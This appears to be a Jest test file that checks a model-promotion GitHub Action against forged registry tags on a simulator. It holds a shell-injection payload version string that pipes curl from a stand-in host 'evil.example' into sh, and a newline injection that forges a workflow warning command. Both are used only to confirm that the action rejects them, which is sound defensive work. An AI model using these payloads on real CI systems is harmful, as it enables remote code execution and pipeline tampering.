import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
import { GitHubSimulator } from '../simulator/server.js'
import { buildAction, Runner } from './runner.js'

/*
 * Attacks from issue "Trust the verdict" (sections 2, 3 and 7) carried out against the bundled
 * action, started as the runner starts it, on the GitHub simulator: a forged record whose version
 * is a shell payload, unverified tags and `verified-only`, a rollback trigger on a misspelt
 * series, and a newline in the `model` input.
 */

const MODEL = 'churn'
const PAYLOAD = 'v9.9.9";curl https://evil.example/x|sh;echo "'
const POLICY = `version: 1
model: churn
stages: [dev, prod]
transitions:
  - to: prod
    gates:
      - { id: auc, metric: offline.auc, min: 0.8 }
    rollback:
      to: previous
      when:
        - { metric: online.latency_p95_ms, above: 80, for: 5m }
`

let sim: GitHubSimulator
let runner: Runner
const context = (runId: number) => ({ runId, sha: sim.state.addCommit('ci') })

function record(version: string, extra: Record<string, unknown> = {}): string {
  return `promote churn\n\n${JSON.stringify({
    schema: 'modelgate/promotion-record/v1',
    event: 'promotion',
    model: MODEL,
    version,
    from_stage: 'dev',
    to_stage: 'prod',
    decision: 'promote',
    gates: [],
    approvals: [],
    rollout: null,
    rollback_to: null,
    baseline: { version: null },
    evidence: [],
    created_at: new Date().toISOString(),
    ...extra
  })}\n`
}

beforeAll(async () => {
  sim = new GitHubSimulator({ repository: 'acme/models' })
  await sim.start()
  runner = new Runner((await buildAction()).entry, sim)
  runner.write('policy.yml', POLICY)
  const c1 = sim.state.addCommit('train 1')
  const c2 = sim.state.addCommit('train 2')
  sim.state.seedTag(`${MODEL}@v1.0.0`, c1, 'register churn v1.0.0')
  sim.state.seedTag(`${MODEL}@v2.0.0`, c2, 'register churn v2.0.0')
  sim.state.seedTag(`${MODEL}#prod#1`, c1, record('v1.0.0'))
  // An attacker's commit, never registered, with a forged record naming a shell payload.
  const stray = sim.state.addCommit('attacker')
  sim.state.seedTag(`${MODEL}#prod#2`, stray, record(PAYLOAD))
  // A record on a registered commit that names another version.
  sim.state.seedTag(`${MODEL}#prod#3`, c2, record(PAYLOAD))
}, 120_000)

afterAll(async () => {
  runner.cleanup()
  await sim.stop()
})

describe('the bundled action against registry forgeries', () => {
  it('a forged record never puts its text into the version output', async () => {
    const run = await runner.run({ command: 'resolve', model: MODEL, stage: 'prod' }, context(101))
    expect(run.code).toBe(0)
    expect(run.outputs.version).toBe('v1.0.0')
    expect(run.everything).not.toContain('curl')
  })

  it('an unverified tag counts, but not with verified-only', async () => {
    sim.state.seedTag(`${MODEL}#prod#4`, sim.state.tag(`${MODEL}@v2.0.0`)!.commit, 'Assigning prod (GTO)')
    const all = await runner.run({ command: 'resolve', model: MODEL, stage: 'prod' }, context(102))
    expect(all.outputs.version).toBe('v2.0.0')
    const verified = await runner.run(
      { command: 'resolve', model: MODEL, stage: 'prod', 'verified-only': 'true' },
      context(103)
    )
    expect(verified.code).toBe(0)
    expect(verified.outputs.version).toBe('v1.0.0')
  })

  it('a rollback trigger on a series the monitoring lacks fails the step', async () => {
    const now = Math.floor(Date.now() / 1000)
    runner.write(
      'monitoring.json',
      JSON.stringify({ latency_p59_ms: Array.from({ length: 10 }, (_, i) => [now + 60 * i, 120]) })
    )
    const run = await runner.run(
      {
        command: 'rollback',
        model: MODEL,
        policy: 'policy.yml',
        'policy-ref': 'workspace',
        monitoring: 'online=monitoring.json'
      },
      context(104)
    )
    expect(run.code).not.toBe(0)
    expect(run.stdout).toMatch(/::error::.*no series "latency_p95_ms"/)
    expect(run.outputs.decision).toBeUndefined()
  })

  it('a newline in the model input writes no workflow command', async () => {
    const run = await runner.run(
      { command: 'register', model: `${MODEL}\n::warning::INJECTED`, version: '3', 'dry-run': 'true' },
      context(105)
    )
    expect(run.code).not.toBe(0)
    expect(run.stdout.split('\n').some((line) => line.startsWith('::warning::INJECTED'))).toBe(false)
    expect(run.stdout).toMatch(/::error::.*invalid model name/)
  })
})
